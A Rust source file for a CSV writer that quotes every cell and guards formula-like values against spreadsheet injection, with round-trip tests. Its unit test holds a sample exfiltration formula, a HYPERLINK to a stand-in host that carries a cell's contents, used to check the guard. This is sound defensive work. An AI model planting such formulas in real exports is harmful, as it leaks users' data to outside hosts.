//! Tables out: CSV that no spreadsheet runs, and that reads back to the same values (SAFETY.md 6).
//!
//! It must not know what the tables are about.

use super::guard;

/// Writes rows as CSV: always quoted, guarded against spreadsheets.
#[derive(Debug)]
pub struct CsvWriter(csv::Writer<Vec<u8>>);

impl CsvWriter {
    /// Starts a table with its headers.
    pub fn new<H: AsRef<str>>(headers: impl IntoIterator<Item = H>) -> Self {
        let writer = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .flexible(true)
            .from_writer(Vec::new());
        let mut writer = Self(writer);
        writer.row(headers);
        writer
    }

    /// Adds a row.
    pub fn row<C: AsRef<str>>(&mut self, cells: impl IntoIterator<Item = C>) {
        const HELD: &str = "a table in memory takes all bytes";
        for cell in cells {
            let cell = cell.as_ref();
            // A NUL ends a file for most readers, ours included.
            let written = if cell.contains('\0') {
                self.0.write_field(&*guard(&cell.replace('\0', "")))
            } else {
                self.0.write_field(&*guard(cell))
            };
            written.expect(HELD);
        }
        self.0.write_record(None::<&[u8]>).expect(HELD);
    }

    /// Returns the bytes.
    pub fn finish(self) -> Vec<u8> {
        self.0
            .into_inner()
            .expect("a table in memory takes all bytes")
    }
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::super::unguard;
    use super::*;

    fn read(bytes: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(bytes)
            .records()
            .map(|row| {
                let row = row.expect("as many cells in each row");
                row.iter().map(|cell| unguard(cell).to_owned()).collect()
            })
            .collect()
    }

    #[test]
    fn every_cell_is_quoted_and_formulas_are_guarded() {
        let mut writer = CsvWriter::new(["id", "name"]);
        writer.row(["1", "=HYPERLINK(\"http://e/?\"&A1)"]);
        writer.row(["2", "\0@sum\nwith a line"]);
        assert_eq!(
            String::from_utf8(writer.finish()).expect("text"),
            "\"id\",\"name\"\n\
             \"1\",\"'=HYPERLINK(\"\"http://e/?\"\"&A1)\"\n\
             \"2\",\"'@sum\nwith a line\"\n"
        );
    }

    proptest! {
        #[test]
        fn values_come_back_equal(
            rows in prop::collection::vec(
                prop::collection::vec("[^\0]{0,8}|[=+@'\" \t\r\n,;-]{0,6}", 3),
                0..5,
            ),
        ) {
            let mut writer = CsvWriter::new(["a", "b", "c"]);
            for row in &rows {
                writer.row(row);
            }
            let found = read(&writer.finish());
            prop_assert_eq!(&found[0], &["a", "b", "c"]);
            prop_assert_eq!(&found[1..], rows);
        }
    }
}
